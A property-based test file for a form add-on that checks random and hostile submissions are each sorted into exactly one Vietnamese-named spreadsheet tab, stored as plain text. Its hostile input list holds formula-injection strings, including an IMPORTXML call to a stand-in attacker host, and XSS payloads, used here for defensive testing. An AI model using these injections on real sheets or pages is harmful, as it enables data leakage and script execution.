// Property test: thousands of random and hostile submissions through the bundle's onFormSubmit each end
// in exactly one of «Việc tốt» / «Cần bổ sung» — never both, never neither, never as a formula.
import fc from 'fast-check';
import { ANSWER_KEYS } from '../../src/domain/form';
import { FIELDS, NATURES, PERFORMER_KINDS, PROPOSALS } from '../../src/shared/codes';
import { GOOD, fireSubmission, freshAddOn, tabRows, withoutUnitAddresses } from '../helpers';
import { DEED, LONG_TEXT, NEEDS_FIX } from '../../src/domain/tabs';

const hostile = fc.constantFrom(
  '=1+1',
  '+84912345678',
  '-2+3',
  '@SUM(A1)',
  '=IMPORTXML("http://evil.example","//a")',
  "'=quoted",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'lòng lề đường'.normalize('NFD'),
  'a\u0000b\u0007c\u200Bd',
  '   ',
  '\n\n\t',
  '01/01/1900',
  '31/12/2099',
  '2026-02-30',
  'Đơn vị không có thật',
  'Khác',
  '0',
  'TRUE',
  '1e5',
);
const plausible = (key: string): fc.Arbitrary<string> => {
  const good = GOOD[key as keyof typeof GOOD];
  switch (key) {
    case 'performerKind':
      return fc.constantFrom(...Object.values(PERFORMER_KINDS));
    case 'nature':
      return fc.constantFrom(...Object.values(NATURES));
    case 'field':
      return fc.constantFrom('', ...Object.values(FIELDS));
    case 'proposal':
      return fc.constantFrom('', '', '', ...Object.values(PROPOSALS));
    case 'doneOn':
      return fc.constantFrom('2026-11-20', '20/11/2026', '2026-01-05');
    case 'startDate':
      return fc.constantFrom('2025-06-01', '1/6/2025', '');
    default:
      return good ? fc.constant(good) : fc.string({ maxLength: 30 });
  }
};
const mutation = fc.tuple(
  fc.constantFrom(...ANSWER_KEYS),
  fc.oneof(hostile, fc.string({ unit: 'grapheme', maxLength: 80 }), fc.constant('')),
);
/** A plausible submission with zero to four answers replaced by hostile, random or missing ones. */
const submission = fc
  .tuple(
    fc.record(Object.fromEntries(ANSWER_KEYS.map((k) => [k, plausible(k)])) as Record<string, fc.Arbitrary<string>>),
    fc.array(mutation, { maxLength: 4 }),
  )
  .map(([base, mutations]) => ({ ...base, ...Object.fromEntries(mutations) }))
  .filter((a) => Object.values(a).some((v) => v.trim() !== ''));

describe('onFormSubmit under random and hostile input', () => {
  it('puts every submission in exactly one tab, as text', () => {
    const addOn = withoutUnitAddresses(freshAddOn());
    const ids: string[] = [];
    let n = 0;
    fc.assert(
      fc.property(submission, fc.boolean(), fc.boolean(), (answers, huge, extra) => {
        n += 1;
        const keyed: Record<string, string> = { ...answers };
        if (huge && n % 10 === 0) keyed.description = `${GOOD.description} ${'Đ'.repeat(60_000)}`;
        if (extra) keyed['Câu hỏi lạ'] = '=2*2';
        const result = fireSubmission(addOn, keyed) as { status: string; id: string };
        expect(['stored', 'needs_fix']).toContain(result.status);
        ids.push(result.id);
      }),
      { numRuns: 2000, seed: 20261127 },
    );
    const stored = new Set(tabRows(addOn, DEED.name).map((r) => r[0]));
    const kept = new Set(tabRows(addOn, NEEDS_FIX.name).map((r) => r[0]));
    expect(stored.size + kept.size).toBe(new Set(ids).size);
    for (const id of ids) expect(Number(stored.has(id)) + Number(kept.has(id))).toBe(1);
    for (const tab of [DEED.name, NEEDS_FIX.name, LONG_TEXT.name]) {
      const sheet = addOn.runtime.spreadsheet.getSheetByName(tab)!;
      const formulas = sheet
        .getDataRange()
        .getFormulas()
        .flat()
        .filter((f) => f !== '');
      expect(formulas).toEqual([]);
    }
    expect(stored.size).toBeGreaterThan(50); // the generator reaches both outcomes
    expect(kept.size).toBeGreaterThan(50);
  });
});
